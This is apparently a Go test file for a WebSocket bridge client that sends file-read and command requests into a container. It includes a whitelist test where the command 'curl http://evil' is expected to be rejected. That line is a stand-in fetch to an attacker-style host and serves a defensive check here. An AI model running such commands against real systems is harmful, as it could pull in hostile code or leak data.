package bridge

import (
	"context"
	"encoding/json"
	"net/http"
	"net/http/httptest"
	"strings"
	"testing"
	"time"

	"github.com/gorilla/websocket"
)

var testUpgrader = websocket.Upgrader{CheckOrigin: func(r *http.Request) bool { return true }}

// startFakeBridge serves a minimal in-container bridge: it pushes a
// "connected" frame on open, then echoes every readFile request back
// as a successful reply with the request id, and answers runCommand
// with whatever the caller asked (whitelist enforcement is the
// client's job, so the fake server doesn't re-check it).
func startFakeBridge(t *testing.T) (*httptest.Server, string) {
	t.Helper()
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, err := testUpgrader.Upgrade(w, r, nil)
		if err != nil {
			return
		}
		defer conn.Close()

		if err := conn.WriteJSON(Response{Type: typeConnected, Success: true}); err != nil {
			return
		}

		for {
			var req Request
			if err := conn.ReadJSON(&req); err != nil {
				return
			}
			switch req.Type {
			case CommandReadFile:
				conn.WriteJSON(Response{ID: req.ID, Success: true, Data: json.RawMessage(`"file contents"`)})
			case CommandRunCommand:
				conn.WriteJSON(Response{ID: req.ID, Success: true, Data: req.Payload})
			default:
				conn.WriteJSON(Response{ID: req.ID, Success: false, Error: "unhandled in fake bridge"})
			}
		}
	}))
	wsURL := "ws" + strings.TrimPrefix(srv.URL, "http")
	return srv, wsURL
}

type recordingHandler struct {
	connected chan struct{}
}

func (h *recordingHandler) OnConnected()              { close(h.connected) }
func (h *recordingHandler) OnPushError(string)         {}

func TestClientCallRoundTrip(t *testing.T) {
	srv, wsURL := startFakeBridge(t)
	defer srv.Close()

	handler := &recordingHandler{connected: make(chan struct{})}
	c, err := Dial(context.Background(), wsURL, handler)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()

	select {
	case <-handler.connected:
	case <-time.After(2 * time.Second):
		t.Fatal("timed out waiting for connected push frame")
	}

	resp, err := c.Call(context.Background(), CommandReadFile, map[string]string{"path": "main.go"})
	if err != nil {
		t.Fatalf("Call: %v", err)
	}
	var content string
	if err := json.Unmarshal(resp.Data, &content); err != nil {
		t.Fatalf("Unmarshal: %v", err)
	}
	if content != "file contents" {
		t.Fatalf("content = %q", content)
	}
}

func TestClientCallRejectsDisallowedCommand(t *testing.T) {
	srv, wsURL := startFakeBridge(t)
	defer srv.Close()

	c, err := Dial(context.Background(), wsURL, nil)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()

	_, err = c.Call(context.Background(), CommandRunCommand, RunCommandPayload{Command: "curl http://evil"})
	if err != ErrCommandNotAllowed {
		t.Fatalf("err = %v, want ErrCommandNotAllowed", err)
	}
}

func TestClientCallAllowsWhitelistedCommand(t *testing.T) {
	srv, wsURL := startFakeBridge(t)
	defer srv.Close()

	c, err := Dial(context.Background(), wsURL, nil)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()

	resp, err := c.Call(context.Background(), CommandRunCommand, RunCommandPayload{Command: "git status"})
	if err != nil {
		t.Fatalf("Call: %v", err)
	}
	if !resp.Success {
		t.Fatalf("Success = false, Error = %q", resp.Error)
	}
}

func TestClientCallTimesOutWhenBridgeIsSilent(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		conn, err := testUpgrader.Upgrade(w, r, nil)
		if err != nil {
			return
		}
		defer conn.Close()
		// Never reply; just keep the connection open.
		var req Request
		conn.ReadJSON(&req)
		time.Sleep(time.Second)
	}))
	defer srv.Close()
	wsURL := "ws" + strings.TrimPrefix(srv.URL, "http")

	c, err := Dial(context.Background(), wsURL, nil)
	if err != nil {
		t.Fatalf("Dial: %v", err)
	}
	defer c.Close()

	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
	defer cancel()
	if _, err := c.Call(ctx, CommandReadFile, nil); err == nil {
		t.Fatal("expected timeout error")
	}
}
